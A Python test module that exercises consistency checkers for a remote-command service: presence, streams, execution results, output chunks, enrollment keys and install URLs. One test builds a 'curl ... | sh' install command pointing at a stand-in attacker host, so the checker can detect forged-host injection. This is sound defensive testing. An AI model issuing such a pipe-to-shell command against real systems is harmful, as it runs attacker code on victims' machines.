"""The dsh checkers on hand-written histories: what passes, what fails, what is unknown.

Each history is what the wire recorder and a dsh client would have written
(`wiretap/dsh/records.py`, `simulator/dsh/client.py`), so every rule is
shown on the smallest history that exercises it.
"""

from __future__ import annotations

from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from tetherbed.simulator.checkers.dsh import (
    chunks,
    executions,
    install_url,
    keys,
    presence,
    streams,
)
from tetherbed.simulator.history import History

HELLO = {"computerId": "cmp_1", "name": "desk", "heartbeatMs": 2000}


class Dsh:
    """Writes a dsh history the way the recorder and the client would."""

    def __init__(self) -> None:
        self.written = History()
        self.conns: dict[str, int] = {}

    @property
    def history(self) -> History:
        """What was written, in time order (as a run's history is)."""
        return History.merged(self.written.records)

    def wire(self, agent: str, t: float, f: str, **value: Any) -> None:
        self.written.append(t, f"wire:{agent}", "event", f, {"leg": "dsh", **value})

    def stream(
        self,
        agent: str,
        opened: float,
        ended: float | None,
        *,
        computer: str = "cmp_1",
        how: str = "ended",
    ) -> str:
        self.conns[agent] = self.conns.get(agent, 0) + 1
        conn = f"{agent}#{self.conns[agent]}"
        path = "/api/dsh-computers/agent/events"
        self.wire(agent, opened, "http_request", conn=conn, n=1, method="GET", path=path, body={})
        self.wire(agent, opened + 0.001, "sse_open", conn=conn, n=1, path=path, status=200)
        self.wire(
            agent,
            opened + 0.002,
            "sse_event",
            conn=conn,
            n=1,
            event="hello",
            data={**HELLO, "computerId": computer},
        )
        if ended is not None:
            self.wire(agent, ended, "sse_end", conn=conn, n=1, how=how)
        return conn

    def event(self, agent: str, conn: str, t: float, event: str, **data: Any) -> None:
        self.wire(agent, t, "sse_event", conn=conn, n=1, event=event, data=data)

    def post(  # noqa: PLR0917 - an exchange as the recorder writes it
        self,
        agent: str,
        t: float,
        route: str,
        body: dict[str, Any],
        status: int | None,
        error: str | None = None,
    ) -> None:
        self.conns[agent] = self.conns.get(agent, 0) + 1
        conn = f"{agent}#{self.conns[agent]}"
        path = f"/api/dsh-computers/agent/{route}"
        self.wire(agent, t, "http_request", conn=conn, n=1, method="POST", path=path, body=body)
        if status is not None:
            self.wire(
                agent,
                t + 0.001,
                "http_response",
                conn=conn,
                n=1,
                method="POST",
                path=path,
                status=status,
                error=error,
                body={"error": error} if error else {},
            )

    def call(  # noqa: PLR0917 - an operation as the client writes it
        self, t0: float, t1: float, f: str, req: str, asked: dict, kind: str, value: dict
    ) -> None:
        self.written.append(t0, "client:alice", "invoke", f, asked, req=req)
        self.written.append(t1, "client:alice", kind, f, value, req=req)  # type: ignore[arg-type]

    def state(self, t: float, online: bool, req: str) -> None:
        rows = [{"id": "cmp_1", "name": "desk", "online": online}]
        self.call(t, t + 0.01, "state", req, {}, "ok", {"computers": rows})

    def fault(self, t: float, f: str, kind: str, agent: str) -> None:
        self.written.append(t, "fault", "event", f, {"kind": kind, "target": agent})


# --- presence ----------------------------------------------------------------------------


def test_presence_follows_the_stream_with_slack_for_what_the_hub_cannot_yet_know() -> None:
    d = Dsh()
    d.stream("desk", 1.0, 10.0, how="reset")
    d.state(0.5, False, "s1")  # before any stream: offline, right
    d.state(2.0, True, "s2")
    d.state(10.5, True, "s3")  # within a second of the end: the hub may not know yet
    d.state(12.0, False, "s4")
    assert presence.check(d.history).ok
    d.state(12.5, True, "s5")  # 2.5 s after the stream ended: a dead machine shown online
    verdict = presence.check(d.history)
    assert verdict.failed and "online" in verdict.summary
    assert {e["req"] for e in verdict.evidence if e.get("req")} == {"s5"}


def test_an_end_behind_a_partition_counts_from_the_heal() -> None:
    d = Dsh()
    d.stream("desk", 1.0, 10.0, how="closed")
    d.fault(5.0, "fault_start", "partition", "desk")
    d.fault(20.0, "fault_stop", "partition", "desk")
    d.state(15.0, True, "s1")  # the agent's FIN waits behind the partition
    assert presence.check(d.history).ok
    d.state(22.0, True, "s2")
    assert presence.check(d.history).failed


def test_offline_while_a_stream_is_plainly_open_is_a_violation_unless_the_link_was_disturbed() -> (
    None
):
    d = Dsh()
    d.stream("desk", 1.0, None)
    d.state(5.0, False, "s1")
    verdict = presence.check(d.history)
    assert verdict.failed and "offline" in verdict.summary
    d = Dsh()
    d.stream("desk", 1.0, None)
    d.written.append(3.0, "agent:desk", "event", "paused", {})
    d.state(5.0, False, "s1")
    assert presence.check(d.history).ok
    assert presence.check(Dsh().history).unknown


# --- one stream per computer ---------------------------------------------------------------


def test_a_newer_stream_must_end_the_older_and_take_the_work() -> None:
    d = Dsh()
    d.stream("desk", 1.0, 5.0)
    d.stream("twin", 4.99, None)
    verdict = streams.check(d.history)
    assert verdict.ok and "1 replaced" in verdict.summary
    d = Dsh()
    old = d.stream("desk", 1.0, 9.0)
    d.stream("twin", 4.0, None)
    d.event("desk", old, 6.0, "exec", requestId="req_1")
    verdict = streams.check(d.history)
    assert verdict.failed
    assert "two streams" in verdict.summary and "replaced stream" in verdict.summary
    assert streams.check(Dsh().history).unknown


# --- executions ------------------------------------------------------------------------------


def exec_call(d: Dsh, req: str, kind: str, **value: Any) -> None:
    asked = {"computer": "cmp_1", "command": "echo hi", "commandDigest": "c0"}
    d.call(1.0, 3.0, "computer_exec", req, asked, kind, value)


RESULT = {
    "requestId": "req_1",
    "exitCode": 0,
    "timedOut": False,
    "stdout": {"size": 3, "digest": "aa"},
    "stderr": {"size": 0, "digest": "bb"},
}


def test_an_answer_must_be_the_agents_result_and_settled_once() -> None:
    d = Dsh()
    conn = d.stream("desk", 0.0, None)
    d.event("desk", conn, 1.1, "exec", requestId="req_1", command={"digest": "c0", "size": 7})
    d.post("desk", 2.0, "results", RESULT, None)  # its answer was lost
    d.post("desk", 2.5, "results", RESULT, 404, "unknown-request")  # the retry
    exec_call(d, "e1", "ok", requestId="req_1", exitCode=0, timedOut=False, stdoutDigest="aa")
    assert executions.check(d.history).ok
    d.post("desk", 2.6, "results", RESULT, 200)
    d.post("desk", 2.7, "results", RESULT, 200)
    exec_call(d, "e2", "ok", requestId="req_1", exitCode=1, timedOut=False, stdoutDigest="zz")
    verdict = executions.check(d.history)
    assert verdict.failed
    assert "accepted 2 results" in verdict.summary and "exitCode 1" in verdict.summary


def test_a_failed_call_must_not_have_run_and_an_ok_one_must_have() -> None:
    d = Dsh()
    conn = d.stream("desk", 0.0, None)
    d.event("desk", conn, 1.1, "exec", requestId="req_1", command={"digest": "c0", "size": 7})
    exec_call(d, "e1", "fail", requestId="req_1", code="computer-offline")
    exec_call(d, "e2", "ok", exitCode=0, stdoutDigest="aa")  # matched by command digest
    verdict = executions.check(d.history)
    assert verdict.failed
    assert "did not happen" in verdict.summary and "never posted a result" in verdict.summary


# --- chunks ----------------------------------------------------------------------------------


def chunk(seq: int, digest: str) -> dict[str, Any]:
    return {"requestId": "req_1", "seq": seq, "stdout": {"size": 2, "digest": digest}}


def streamed(*digests: str) -> dict[str, Any]:
    pieces = [{"stream": "stdout", "size": 2, "digest": x} for x in digests]
    return {"requestId": "req_1", "exitCode": 0, "streamed": pieces}


def test_streamed_output_follows_the_chunks_once_and_in_order() -> None:
    def history(*digests: str) -> History:
        d = Dsh()
        conn = d.stream("desk", 0.0, None)
        d.event("desk", conn, 1.1, "exec", requestId="req_1", command={"digest": "c0"})
        for seq, digest in enumerate(["a", "b", "c"]):
            d.post("desk", 1.2 + seq / 10, "results/chunk", chunk(seq, digest), 200)
        exec_call(d, "e1", "ok", **streamed(*digests))
        return d.history

    assert chunks.check(history("a", "b", "c")).ok
    duplicate = chunks.check(history("a", "b", "a", "c"))
    assert duplicate.failed and "streamed to the caller again" in duplicate.summary
    shuffled = chunks.check(history("a", "c", "b"))
    assert shuffled.failed and "seq 1" in shuffled.summary and "after seq 2" in shuffled.summary
    assert chunks.check(history("a", "x")).unknown
    assert chunks.check(Dsh().history).unknown


# --- keys and install URLs -----------------------------------------------------------------


def test_a_key_enrolls_once_and_is_then_refused_as_used() -> None:
    d = Dsh()
    d.post("desk", 1.0, "enroll", {"keyDigest": "k1"}, 200)
    d.post("laptop", 2.0, "enroll", {"keyDigest": "k1"}, 409, "key-used")
    assert keys.check(d.history).ok
    d.post("phone", 3.0, "enroll", {"keyDigest": "k1"}, 401, "invalid-key")
    d.post("tablet", 4.0, "enroll", {"keyDigest": "k1"}, 200)
    verdict = keys.check(d.history)
    assert verdict.failed and verdict.summary.startswith("2 violations")
    assert keys.check(Dsh().history).unknown


def test_an_install_command_must_not_follow_a_forged_host() -> None:
    def history(server: str) -> History:
        d = Dsh()
        asked = {"os": "linux", "forwarded_host": "attacker.example"}
        value = {
            "serverUrl": server,
            "installUrl": f"{server}/api/dsh-computers/join.sh?key=<key>",
            "command": f"curl -fsSL '{server}/api/dsh-computers/join.sh?key=<key>' | sh",
            "joinServerUrls": [server],
        }
        d.call(1.0, 1.1, "create_key", "k1", asked, "ok", value)
        return d.history

    assert install_url.check(history("http://127.0.0.1:8765")).ok
    verdict = install_url.check(history("https://attacker.example"))
    assert verdict.failed and "attacker.example" in verdict.summary
    assert install_url.check(Dsh().history).unknown


# --- robustness ------------------------------------------------------------------------------

ROUTES = ["events", "results", "results/chunk", "enroll", "heartbeat"]
DSH_RECORDS = st.lists(
    st.tuples(
        st.floats(0, 20, allow_nan=False),
        st.sampled_from(["desk", "twin"]),
        st.sampled_from(
            ["http_request", "http_response", "sse_open", "sse_event", "sse_end", "end"]
        ),
        st.sampled_from(["desk#1", "desk#2", "twin#1"]),
        st.integers(1, 2),
        st.sampled_from(ROUTES),
        st.sampled_from(["hello", "exec", "ping", "cancel"]),
        st.sampled_from([200, 404, 409, None]),
        st.dictionaries(
            st.sampled_from(["requestId", "seq", "keyDigest", "computerId", "stdout", "type"]),
            st.one_of(st.sampled_from(["req_1", "cmp_1", "k1", "stdout"]), st.integers(0, 3)),
        ),
    ),
    max_size=25,
)


@settings(max_examples=100, deadline=None)
@given(DSH_RECORDS, st.lists(st.booleans(), max_size=4))
def test_no_dsh_checker_raises_on_scrambled_dsh_histories(rows: list, reads: list[bool]) -> None:
    d = Dsh()
    for t, agent, f, conn, n, route, event, status, body in rows:
        d.wire(
            agent,
            t,
            f,
            conn=conn,
            n=n,
            method="POST",
            path=f"/api/dsh-computers/agent/{route}",
            event=event,
            status=status,
            body=body,
            data=body,
            how="ended",
        )
    for number, online in enumerate(reads):
        d.state(number * 3.0, online, f"s{number}")
    exec_call(
        d, "e1", "ok", requestId="req_1", streamed=[{"stream": "stdout", "size": 1, "digest": "x"}]
    )
    for check in (
        presence.check,
        streams.check,
        executions.check,
        chunks.check,
        keys.check,
        install_url.check,
    ):
        verdict = check(d.history)
        assert verdict.status in ("pass", "fail", "unknown")
